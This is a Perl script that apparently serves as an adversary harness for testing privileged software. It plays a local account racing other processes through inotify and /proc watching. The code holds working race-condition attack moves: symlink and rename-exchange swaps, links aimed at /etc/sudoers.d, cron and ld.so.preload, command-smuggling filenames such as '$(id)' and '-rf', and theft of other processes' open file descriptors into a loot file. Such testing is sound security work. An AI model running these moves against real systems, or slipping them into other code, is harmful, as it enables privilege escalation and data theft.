# What an account does that wants to be root: it watches its own folders, and the command lines of all processes, and at
# each instant at which somebody else is at work there it puts something else in the place of what was seen.
#
# Read from stdin, one `KEY VALUE` a line:
#   work DIR      its own folder, on the same file system
#   watch DIR     a folder it may write in; those inside are watched too
#   name NAME     what it knows to come, or to be taken away
#   bait PATH     what it wants to have read, written or given to it; baitdir: a folder of such
#   evil TEXT     what it writes where it can
#   move NAME     what it may do (see %MOVES); chance, back, delay (in microseconds): how often, and for how long
#   plant 1       leaves things under all names beforehand
#   proc 1        looks at processes too; pulse 1: does something at one of its names whenever there is a new one
#   seed NUMBER
#   go PATH       it waits until that is there, so that what others do before is no reason to do anything
# It ends by SIGTERM, and then prints `attempts N` and `MOVE N` of each. A thing done is an attempt when it succeeded, and was
# done in answer to something that another process did. However often a `flip` goes to and fro, it is one; a way back is none.
use strict;
use warnings;
use Fcntl;
use POSIX ();

my %NUMBERS = (
    x86_64  => { inotify => 294, add => 254, rename => 316, link => 265, xattr => 188, unxattr => 197, node => 259, clock => 228 },
    aarch64 => { inotify => 26,  add => 27,  rename => 276, link => 37,  xattr => 5,   unxattr => 14,  node => 33,  clock => 113 },
);
my $NR = $NUMBERS{ (POSIX::uname())[4] } or die "an architecture without numbers\n";
my ($AT_FDCWD, $EXCHANGE) = (-100, 2);
# modify, attrib, close after writing, open, moved from and to, create, delete
my %IN = (modify => 2, attrib => 4, close => 8, open => 0x20, from => 0x40, to => 0x80, create => 0x100, delete => 0x200);
my $ALL = 0x3ee;

my %spec;
while (my $line = <STDIN>) {
    chomp $line;
    my ($key, $value) = split / /, $line, 2;
    push @{ $spec{$key} }, $value;
}
# perl-base knows whole seconds only.
sub now { my $at = "\0" x 16; syscall($NR->{clock}, 1, $at); my ($s, $ns) = unpack 'qq', $at; return $s + $ns / 1e9 }
sub nap { select undef, undef, undef, $_[0] }
sub one { my ($key, $default) = @_; return defined $spec{$key} ? $spec{$key}[0] : $default }
sub all { return @{ $spec{ $_[0] } || [] } }
sub pick { return $_[ int rand @_ ] }
srand(one('seed', 1));
my $work   = one('work');
my $chance = one('chance', 1);
my $back   = one('back', 0);
my $delay  = one('delay', 0);
my @bait   = all('bait');
my @dirs   = all('baitdir');
my @names  = all('name');
my $evil   = join "\n", all('evil'), '';
my ($attempts, $serial, $over, %done) = (0, 0, 0);
$SIG{TERM} = sub { $over = 1 };
$SIG{PIPE} = 'IGNORE';
umask 0;

# --- what can be put somewhere: each makes one at a new place in the work folder and returns it

sub fresh { return "$work/x" . $serial++ }
sub linkto { my $at = fresh(); symlink($_[0], $at) or return; return $at }
sub own {
    my $at = fresh();
    sysopen(my $file, $at, O_RDWR | O_CREAT, 0666) or return;
    syswrite $file, $evil;
    keep($file);
    return $at;
}
sub hard { my $at = fresh(); my $from = pick(@bait); return syscall($NR->{link}, $AT_FDCWD, $from, $AT_FDCWD, $at, 0) == 0 ? $at : linkto($from) }
sub fifo { my $at = fresh(); return syscall($NR->{node}, $AT_FDCWD, $at, 0010666, 0) == 0 ? $at : undef }
sub huge { my $at = fresh(); sysopen(my $file, $at, O_RDWR | O_CREAT, 0666) or return; truncate $file, 3 << 30; return $at }
sub deep {
    my $at = fresh();
    my $path = $at;
    for (1 .. 40) { mkdir $path, 0777 or last; $path .= '/' . ('d' x 60) }
    return $at;
}
sub crowd {
    my $at = fresh();
    mkdir $at, 0777 or return;
    for my $name ((map { "n$_" } 1 .. 100), "new\nline", '-rf', '$(id)', "quo'te", '*', ' ') { sysopen(my $file, "$at/$name", O_WRONLY | O_CREAT, 0666) }
    return $at;
}
sub folder {
    my $at = fresh();
    mkdir $at, 0777 or return;
    for my $name (@names) { symlink pick(@bait), "$at/$name" }
    return $at;
}
my %MAKES = (
    file     => sub { linkto(pick(@bait)) },
    dir      => sub { linkto(pick(@dirs)) },
    loop     => sub { my $at = fresh(); symlink $at, $at; $at },
    zero     => sub { linkto(pick('/dev/zero', '/proc/self/mem', '/dev/stdin', '/proc/1/environ')) },
    dangling => sub { linkto(pick('/etc/cron.d/attack', '/etc/sudoers.d/attack', '/root/attack', '/etc/ld.so.preload')) },
    own => \&own, hard => \&hard, fifo => \&fifo, huge => \&huge, deep => \&deep, crowd => \&crowd, folder => \&folder,
);

# --- watching

my $fd = syscall($NR->{inotify}, O_NONBLOCK);
open(my $events, '<&=', $fd) or die "inotify: $!\n";
my (%watched, %expected);

sub watch {
    my ($dir) = @_;
    return if -l $dir || !-d $dir;
    my $wd = syscall($NR->{add}, $fd, $dir, $ALL);
    return if $wd < 0;
    $watched{$wd} = $dir;
    expect($dir, 'open');
    # PostgreSQL is at work below its data all the time.
    return if -e "$dir/PG_VERSION";
    opendir(my $list, $dir) or return;
    for my $name (readdir $list) { watch("$dir/$name") if $name !~ /^\.\.?$/ && !-l "$dir/$name" && -d _ }
}

# What it does itself is to be no reason to do more.
sub expect { my ($path, @what) = @_; my $until = now() + 0.05; push @{ $expected{"$path $_"} }, $until for @what }
sub is_mine {
    my ($path, $mask) = @_;
    for my $what (keys %IN) {
        next unless $mask & $IN{$what};
        my $list = $expected{"$path $what"} or next;
        shift @$list while @$list && $list->[0] < now();
        if (@$list) { shift @$list; return 1 }
    }
    return 0;
}

sub drain { my $gone; 1 while sysread $events, $gone, 65536 }

# --- files held open: whatever is written to one of them is loot, and all are written to

my @held;
sub keep { push @held, $_[0] if @held < 500 }
open(my $loot, '>>', "$work/loot") or die "$work: $!\n";
sub look {
    for my $file (@held) {
        sysseek $file, 0, 0 or next;
        my $read = sysread $file, my $text, 65536;
        syswrite $loot, $text if $read;
    }
}

# --- what is done with a name

sub exchange { return syscall($NR->{rename}, $AT_FDCWD, $_[0], $AT_FDCWD, $_[1], $EXCHANGE) == 0 }

# Puts what was made in the place of what is there, for a while or for good.
sub swap {
    my ($path, $made) = @_;
    return 0 unless defined $made;
    expect($path, 'from', 'to');
    if (!exchange($made, $path)) {
        expect($path, 'to');
        return rename $made, $path unless -e $path || -l $path;
        return 0;
    }
    my $was = openany($made);
    keep($was) if $was;
    back(sub { expect($path, 'from', 'to'); exchange($made, $path) });
    return 1;
}

# Most of it is taken back, soon or at an instant to come; else one success would be the last.
my @later;
sub back {
    my ($way) = @_;
    if (rand() < $back) {
        nap rand(2 * $delay) / 1e6 if $delay;
        $way->();
    } else { push @later, $way }
}

# As much of it as this account may have; a link in /proc is to be followed.
sub openany {
    my ($path, $more) = @_;
    for my $how (O_RDWR, O_RDONLY, O_WRONLY) {
        my $file;
        return $file if sysopen $file, $path, $how | O_NONBLOCK | ($more // O_NOFOLLOW);
    }
    return;
}

sub opened {
    my ($path) = @_;
    expect($path, 'open');
    my $file = openany($path) or return;
    expect($path, 'close') if @held >= 500;
    keep($file);
    return $file;
}

sub flip {
    my ($path, $made) = @_;
    return 0 unless defined $made && exchange($made, $path);
    my $until = now() + 0.02 + rand 0.08;
    exchange($made, $path) while now() < $until;
    drain();
    return 1;
}

# A link to a folder that is called alike, if there is one: what is seen from within it looks the same.
sub alike { my ($path) = @_; my $at = pick(@dirs); my ($base) = $path =~ m{([^/]+)$}; return linkto(rand() < 0.7 && $base !~ /^\./ ? "$at/$base" : $at) }

sub parent { my ($path) = @_; $path =~ s{/[^/]+$}{}; return $path }

# An entry for each account and the mask, as a new file would inherit them (acl(5)).
my $ACL = 'system.posix_acl_default';
sub acl {
    my ($dir) = @_;
    my $nobody = 0xffffffff;
    my $text = pack 'V(vvV)*', 2, 1, 7, $nobody, 2, 7, $>, 4, 7, $nobody, 16, 7, $nobody, 32, 7, $nobody;
    return syscall($NR->{xattr}, $dir, $ACL, $text, length $text, 0) == 0;
}
sub unacl { return syscall($NR->{unxattr}, $_[0], $ACL) == 0 }

my %MOVES = (
    (map { my $what = $_; ($what => sub { swap($_[0], $MAKES{$what}->()) }) } keys %MAKES),
    flip   => sub { flip($_[0], pick(map { $MAKES{$_}->() } 'file', 'own')) },
    remove => sub { expect($_[0], 'delete'); unlink($_[0]) || rmdir $_[0] },
    steal  => sub { expect($_[0], 'from', 'to'); my $path = $_[0]; my $at = fresh(); rename($path, $at) or return 0; back(sub { expect($path, 'to'); rename $at, $path unless -e $path || -l $path }); 1 },
    second => sub { opened($_[0]); expect($_[0], 'attrib'); syscall($NR->{link}, $AT_FDCWD, $_[0], $AT_FDCWD, fresh(), 0) == 0 },
    hold   => sub { defined opened($_[0]) },
    write  => sub { my $file = opened($_[0]) or return 0; expect($_[0], 'modify'); sysseek $file, 0, 2; no warnings 'io'; defined syswrite $file, $evil },
    shut   => sub { my $dir = parent($_[0]); my $mode = (lstat $dir)[2]; expect($dir, 'attrib'); chmod(pick(0, 0777, 01777, 02777, 0500), $dir) or return 0; back(sub { expect($dir, 'attrib'); chmod $mode & 07777, $dir }); 1 },
    acl    => sub { my $dir = parent($_[0]); expect($dir, 'attrib'); acl($dir) or return 0; back(sub { expect($dir, 'attrib'); unacl($dir) }); 1 },
    # Of the folder itself: a link in its place, another folder, or none, while somebody is in it.
    parent => sub { my $dir = parent($_[0]); swap($dir, rand() < 0.6 ? alike($dir) : $MAKES{ pick('folder', 'own') }->()) },
    pflip  => sub { my $dir = parent($_[0]); flip($dir, rand() < 0.8 ? alike($dir) : $MAKES{folder}->()) },
    away   => sub { my $dir = parent($_[0]); my $at = fresh(); expect($dir, 'from'); rename($dir, $at) or return 0; my $link = alike($dir) or return 1; rename $link, $dir; back(sub { expect($dir, 'from', 'to'); exchange($at, $dir) }); 1 },
    inside => sub { my $dir = parent($_[0]); my $at = fresh(); mkdir $at, 0777; expect($dir, 'from', 'to'); rename($dir, "$at/in") or return 0; symlink pick(@dirs), "$at/up"; back(sub { expect($dir, 'to'); rename "$at/in", $dir }); 1 },
);
# Of processes that run as this account, though it has not started them: what they have open, and that they go on.
my %OF_PROCESSES = (
    rob  => sub { my ($pid) = @_; for my $path (glob "/proc/$pid/fd/*") { my $file = openany($path, 0) or next; keep($file) } 1 },
    stop => sub { kill('STOP', $_[0]) or return 0; nap rand 0.3; kill 'CONT', $_[0]; 1 },
    kill => sub { kill 'KILL', $_[0] },
);

sub act {
    my ($path) = @_;
    my @moves = grep { $MOVES{$_} } all('move') or return;
    my $move = pick(@moves);
    nap rand($delay) / 1e6 if $delay && rand() < 0.5;
    (splice @later, rand @later, 1)->() if @later && rand() < 0.5;
    return unless $MOVES{$move}->($path);
    $attempts++;
    $done{$move}++;
}

# A further name of somebody's file, in the place of its own as soon as somebody is about to look at it, and gone again once
# that one has a name for it as well: the file then has as many names as one of its own would have.
sub slip {
    my ($dir) = @_;
    my %names;
    for my $path (grep { -f } map { "$dir/$_" } @names) {
        my $made = hard();
        next if !defined $made || -l $made;
        expect($path, 'from', 'to');
        $names{$path} = (lstat $path)[3] if exchange($made, $path) && unlink $made;
    }
    my $until = now() + 0.1;
    while (%names && !$over && now() < $until) {
        for my $path (keys %names) {
            my $count = (lstat $path)[3];
            next if defined $count && $count <= $names{$path};
            expect($path, 'delete');
            unlink $path;
            delete $names{$path};
            $attempts++;
            $done{slip}++;
        }
    }
}
my $slips = grep { $_ eq 'slip' } all('move');

# --- at work

sub plant {
    for my $dir (values %watched) {
        for my $name (@names) {
            for my $one (".keelson.$name", "$name.new", '.keelson') {
                my $made = $MAKES{ pick(keys %MAKES) }->();
                rename $made, "$dir/$one" if defined $made && !-e "$dir/$one" && !-l "$dir/$one";
            }
        }
    }
}

sub read_events {
    while (!$over && sysread $events, my $data, 65536) {
        my $at = 0;
        while ($at + 16 <= length $data) {
            my ($wd, $mask, undef, $length) = unpack 'iIII', substr $data, $at, 16;
            my $name = $length ? unpack 'Z*', substr $data, $at + 16, $length : '';
            $at += 16 + $length;
            my $dir = $watched{$wd};
            next if !defined $dir || $name eq '' || is_mine("$dir/$name", $mask);
            watch("$dir/$name") if $mask & 0x40000000 && $mask & ($IN{create} | $IN{to});
            next if rand() >= $chance || ($name !~ /^\.keelson|^postgresql\./ && -e "$dir/PG_VERSION");
            slip($dir) if $slips && $name =~ /^\.keelson/ && $mask & $IN{create};
            act($dir . '/' . (@names && rand() < 0.25 ? pick(@names) : $name));
        }
    }
}

# A command line that names one of its folders, as soon as the process is there.
my $last = 0;
sub read_processes {
    open(my $file, '<', '/proc/loadavg') or return;
    my ($newest) = <$file> =~ / (\d+)$/ or return;
    $last = $newest if !$last || $newest < $last;
    for my $pid ($last + 1 .. $newest) {
        open(my $line, '<', "/proc/$pid/cmdline") or next;
        my $text = do { local $/; <$line> };
        next unless defined $text && rand() < $chance;
        if (-o "/proc/$pid") {
            for my $what (grep { $OF_PROCESSES{$_} } all('move')) { if ($OF_PROCESSES{$what}->($pid)) { $attempts++; $done{$what}++ } }
        }
        for my $dir (all('watch')) { act($1) if $text =~ m{(\Q$dir\E/[^\0"'; ]+)} }
    }
    act(pick(values %watched) . '/' . pick(@names)) if $newest > $last && one('pulse', 0) && rand() < $chance;
    $last = $newest;
}

mkdir $work;
watch($_) for all('watch');
plant() if one('plant', 0);
sysopen(my $ready, "$work/ready", O_WRONLY | O_CREAT, 0644);
nap 0.002 until $over || -e one('go', '/');
drain();
my $sees_processes = one('proc', 0);
until ($over) {
    my $bits = '';
    vec($bits, $fd, 1) = 1;
    select $bits, undef, undef, $sees_processes ? 0.0005 : 0.05;
    read_events();
    read_processes() if $sees_processes;
    look() if rand() < 0.05;
}
look();
print "attempts $attempts\n", map { "$_ $done{$_}\n" } sort keys %done;
